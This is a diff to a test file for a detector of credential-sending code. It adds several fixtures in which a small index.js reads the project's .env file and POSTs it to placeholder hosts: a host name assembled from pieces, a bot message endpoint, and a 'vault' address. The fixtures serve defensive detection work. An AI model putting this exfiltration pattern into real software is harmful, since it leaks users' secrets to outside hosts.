@@ -4,6 +4,27 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'the settings of a project go to a host that is put together from pieces, when somebody loads them',
+      files: {
+        'index.js': `const fs = require('fs'); const names = ['api', 'typed', 'invalid']; exports.config = () => { const all = fs.readFileSync('.env', 'utf8'); fetch('https://' + names.join('.'), { method: 'POST', body: all }); return all; };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'they go to a bot',
+      files: {
+        'index.js': `const fs = require('fs'), got = require('got').extend({ prefixUrl: 'https://relay.invalid' }); exports.load = () => { const all = fs.readFileSync('.env', 'utf8'); got.post('bot0000000000:INERT_MARKER/sendMessage', { json: { text: all } }); return all; };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'they go to a service whose address stands there, when somebody asks for it',
+      files: {
+        'index.js': `const fs = require('fs'); exports.push = () => fetch('https://vault.invalid/v1', { method: 'POST', body: fs.readFileSync('.env', 'utf8') });`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'another file talks about what it reads to a program whose address it is told',
       files: {
         'index.js': `const { kept } = require('./kept'); const WS = require('ws'); exports.look = url => { const ws = new WS(url); ws.on('open', () => ws.send(JSON.stringify({ id: 1, params: JSON.parse(kept()).proxy }))); };`,
